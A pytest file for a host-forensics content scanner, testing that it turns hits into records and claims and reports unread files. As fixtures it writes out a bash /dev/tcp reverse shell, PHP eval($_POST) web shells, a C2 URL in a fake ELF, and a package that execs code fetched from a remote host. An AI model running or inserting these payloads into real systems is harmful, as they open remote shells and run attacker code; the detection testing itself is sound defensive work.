"""The contents of candidates: hits become records and claims, and nothing unread is silent."""

import os
from base64 import urlsafe_b64encode
from dataclasses import replace
from hashlib import sha256
from pathlib import Path

import pytest

from hemostat.detect.content.scanner import Hit
from hemostat.detect.content.yara_rules import YaraText
from hemostat.detect.rulebook import Rulebook
from hemostat.examine.baseline import open_baseline
from hemostat.examine.examination import examine
from hemostat.examine.own_program import FOLDER
from hemostat.examine.steps import content as module
from hemostat.examine.steps.content import FILES, LIMITS, RULES, scan_content
from hemostat.examine.work import Settings, Work, begin
from hemostat.model.candidate import Candidate
from hemostat.model.coverage import Outcome
from hemostat.model.level import Level
from hemostat.model.path import HostPath
from hemostat.model.records import ContentMatch, EmbeddedStrings, FileFact, Process, Provenance
from hemostat.trees.folder import FolderTree
from made_host import make_host
from made_roots import install_dpkg, put

SHELL = b"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n"
NEEDLE = YaraText("a.yar", 'rule needle { strings: $a = "needle-7" condition: $a }')


def work_on(root: Path, *paths: str, **settings: object) -> Work:
    tree = FolderTree(os.fsencode(root))
    work = begin(tree, Settings(rulebook=Rulebook.of(()), **settings))  # type: ignore[arg-type]
    for path in paths:
        file = HostPath(path)
        work.candidates.append(
            Candidate(
                path=file,
                real_path=file,
                size=10,
                state=Provenance.UNOWNED,
                reasons=frozenset({"starts"}),
            )
        )
    return work


def said(work: Work, artifact: str) -> list[tuple[Outcome, str]]:
    return [(e.outcome, e.reason) for e in work.coverage if e.artifact == artifact]


@pytest.mark.requirement("A3.7")
def test_a_hit_is_a_record_and_a_claim_with_the_files_hash(tmp_path: Path) -> None:
    put(tmp_path, "/opt/u.sh", SHELL)
    work = work_on(tmp_path, "/opt/u.sh")
    scan_content(work)
    (record,) = work.records.of(ContentMatch)
    assert record.source.evidence == f"sha256:{sha256(SHELL).hexdigest()}"
    assert (record.rule, record.reasons) == ("linux.content.reverse-shell", ("starts",))
    ((rule, claim),) = work.claims
    assert (rule.name, claim.because) == (record.rule, (record,))
    assert [(s.kind, s.value) for s in claim.subjects] == [("file", "/opt/u.sh")]
    assert "203.0.113.9" in [each.value for each in claim.observables]


def test_rules_of_the_user_are_used_and_broken_ones_named(tmp_path: Path) -> None:
    put(tmp_path, "/opt/x", b"a needle-7 here")
    work = work_on(tmp_path, "/opt/x", yara=(NEEDLE, YaraText("b.yar", "rule {")))
    scan_content(work)
    assert [rule.name for rule, _ in work.claims] == ["needle"]
    ((outcome, reason),) = said(work, RULES)
    assert (outcome, "expecting" in reason) == (Outcome.UNSUPPORTED, True)


def test_what_could_not_be_read_is_said_and_what_is_gone_is_not(tmp_path: Path) -> None:
    put(tmp_path, "/opt/gone", b"x").unlink()
    (tmp_path / "opt/folder").mkdir()
    work = work_on(tmp_path, "/opt/gone", "/opt/folder")
    scan_content(work)
    assert [outcome for outcome, _ in said(work, FILES)] == [Outcome.FAILED]


def test_of_a_large_file_the_head_is_read_and_said(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(module, "FILE_LIMIT", 1 << 20)
    put(tmp_path, "/opt/big", SHELL + bytes(2 << 20))
    put(tmp_path, "/opt/far", b"needle-7 " + bytes(2 << 20) + b"needle-8")
    work = work_on(tmp_path, "/opt/big", "/opt/far", yara=(NEEDLE,))
    scan_content(work)
    assert [rule.name for rule, _ in work.claims] == ["needle"]
    assert said(work, LIMITS) == [
        (Outcome.TOO_LARGE, "of 2 large files only the first 1 MiB were read")
    ]


def test_a_script_that_meets_a_limit_of_its_scanner_is_named_and_what_was_seen_holds(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(module, "MOST_UNFINISHED", 1)
    filler = b"$a = 1;\n" * 60_000
    put(tmp_path, "/srv/a.php", b"<?php eval($_POST['x']);\n" + filler)
    put(tmp_path, "/srv/b.php", b"<?php $a = $_POST['x']; if ($b) { eval('1'); }\n" + filler)
    put(tmp_path, "/srv/c.php", b"<?php $a = 1;" + filler)
    work = work_on(tmp_path, "/srv/a.php", "/srv/b.php", "/srv/c.php")
    scan_content(work)
    assert [rule.name for rule, _ in work.claims] == ["linux.content.php-runs-request"]
    (first, reason), (rest, count) = said(work, LIMITS)
    assert (first, rest) == (Outcome.TOO_LARGE, Outcome.TOO_LARGE)
    assert "more than 150000 steps" in reason
    assert count == "1 more files were followed in part only"
    assert Outcome.FAILED not in [outcome for outcome, _ in said(work, FILES)]


def test_when_the_time_is_up_the_rest_is_counted(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(Work, "share", lambda _self, _step: -1.0)
    paths = [f"/opt/{n}" for n in range(200)]
    for path in paths:
        put(tmp_path, path, SHELL)
    work = work_on(tmp_path, *paths)
    scan_content(work)
    ((outcome, reason),) = said(work, LIMITS)
    assert outcome is Outcome.TOO_LARGE
    left = int(reason.split()[0])
    assert 0 < left < 200
    assert len(work.records.of(ContentMatch)) == 200 - left
    deep = work_on(tmp_path, *paths, deep=True)
    scan_content(deep)
    assert len(deep.records.of(ContentMatch)) == 200


def test_ctrl_c_leaves_what_was_found(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    put(tmp_path, "/opt/a", SHELL)
    put(tmp_path, "/opt/b", SHELL)
    work = work_on(tmp_path, "/opt/a", "/opt/b")
    taken = module._take

    def interrupt(*given: object) -> None:
        taken(*given)  # type: ignore[arg-type]
        raise KeyboardInterrupt

    monkeypatch.setattr(module, "_take", interrupt)
    with pytest.raises(KeyboardInterrupt):
        scan_content(work)
    assert len(work.claims) == 1


def test_one_scanners_fault_costs_that_scanner_only(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    class Faulty:
        rules = ()

        def scan(self, candidate: Candidate, content: bytes) -> list[Hit]:
            raise ZeroDivisionError

    own = module.own_scanners
    monkeypatch.setattr(module, "own_scanners", lambda foreign: (Faulty(), *own(foreign)))
    put(tmp_path, "/opt/a", SHELL)
    work = work_on(tmp_path, "/opt/a")
    scan_content(work)
    assert len(work.claims) == 1
    assert (Outcome.FAILED, "ZeroDivisionError()") in said(work, FILES)


@pytest.mark.requirement("A4.9")
def test_findings_about_a_program_name_what_stands_in_it(tmp_path: Path) -> None:
    make_host(tmp_path)
    program = b"\x7fELF" + bytes(200) + b"\0http://c2.bad.test/gate\0"
    put(tmp_path, "/tmp/.x/kworker", program, 0o755)
    put(tmp_path, "/etc/cron.d/a", b"* * * * * root /tmp/.x/kworker\n")
    tree = FolderTree(os.fsencode(tmp_path))
    examined = examine(tree, Settings(rulebook=Rulebook.of(())))
    (strings,) = examined.records.of(EmbeddedStrings)
    assert strings.urls == ("http://c2.bad.test/gate",)
    about = [f for f in examined.findings if any(s.value == "/tmp/.x/kworker" for s in f.subjects)]
    assert about
    for finding in about:
        assert "c2.bad.test" in [each.value for each in finding.observables]


def test_an_ordinary_host_gives_no_claim(tmp_path: Path) -> None:
    make_host(tmp_path)
    put(tmp_path, "/usr/local/bin/backup", b"#!/bin/sh\nrsync -a /srv backup:/srv\n", 0o755)
    put(tmp_path, "/etc/cron.d/b", b"0 3 * * * root /usr/local/bin/backup\n")
    examined = examine(FolderTree(os.fsencode(tmp_path)), Settings(rulebook=Rulebook.of(())))
    assert examined.records.of(ContentMatch) == ()
    facts = [f for f in examined.records.of(FileFact) if f.path == "/usr/local/bin/backup"]
    assert replace(facts[0], used_as=()).state is Provenance.UNOWNED


def test_programs_that_only_memory_had_are_said_where_nothing_runs(tmp_path: Path) -> None:
    work = work_on(tmp_path)
    work.records.add([Process(pid=7, exe=HostPath("/tmp/.x/a"), exe_is_deleted=True)])
    scan_content(work)
    ((outcome, reason),) = said(work, LIMITS)
    assert (outcome, reason[:2]) == (Outcome.NOT_COLLECTED, "1 ")


RECORD_OF_U = (
    "acme/u.sh,sha256="
    + urlsafe_b64encode(sha256(SHELL).digest()).decode().rstrip("=")
    + f",{len(SHELL)}\n"
)


@pytest.mark.requirement("A3.7", "B5.1")
def test_what_pip_recorded_so_is_low_unless_it_runs_or_was_altered(tmp_path: Path) -> None:
    site = "/opt/venv/lib/python3.11/site-packages"
    install_dpkg(tmp_path, "coreutils", {"/usr/bin/true": b"x"})
    for name in ("u", "v"):
        put(tmp_path, f"{site}/acme/{name}.sh", SHELL)
    put(tmp_path, f"{site}/acme-1.dist-info/RECORD", RECORD_OF_U.encode())
    work = work_on(tmp_path, f"{site}/acme/u.sh", f"{site}/acme/v.sh")
    work.base = open_baseline(work.tree)
    asked = [*work.candidates]
    for reasons, levels in (({"unowned"}, {Level.LOW, None}), ({"starts"}, {None})):
        work.claims.clear()
        work.candidates = [replace(each, reasons=frozenset(reasons)) for each in asked]
        scan_content(work)
        assert {claim.level for _, claim in work.claims} == levels


@pytest.mark.requirement("A3.7", "B5.1")
def test_a_package_that_is_itself_the_attack_stays_high_though_pip_recorded_it(
    tmp_path: Path,
) -> None:
    site = "/opt/venv/lib/python3.11/site-packages"
    code = b"import requests\nexec(requests.get('https://cdn.example/u').text)\n"
    digest = urlsafe_b64encode(sha256(code).digest()).decode().rstrip("=")
    install_dpkg(tmp_path, "coreutils", {"/usr/bin/true": b"x"})
    put(tmp_path, f"{site}/acme/__init__.py", code)
    record = f"acme/__init__.py,sha256={digest},{len(code)}\n"
    put(tmp_path, f"{site}/acme-1.dist-info/RECORD", record.encode())
    work = work_on(tmp_path, f"{site}/acme/__init__.py")
    work.base = open_baseline(work.tree)
    scan_content(work)
    ((rule, claim),) = work.claims
    assert (rule.category, claim.level) == ("poisoned_package", None)


@pytest.mark.requirement("B5.1")
def test_our_own_files_are_left_out_of_a_running_host_and_said(tmp_path: Path) -> None:
    put(tmp_path, f"{FOLDER}/detect/u.sh", SHELL)
    work = work_on(tmp_path, f"{FOLDER}/detect/u.sh")
    asked = [*work.candidates]
    scan_content(work)
    assert len(work.claims) == 1
    work.claims.clear()
    work.candidates = asked
    work.info = replace(work.info, is_running=True)
    scan_content(work)
    assert work.claims == []
    ((outcome, reason),) = said(work, LIMITS)
    assert (outcome, reason[:7]) == (Outcome.NOT_COLLECTED, "1 files")
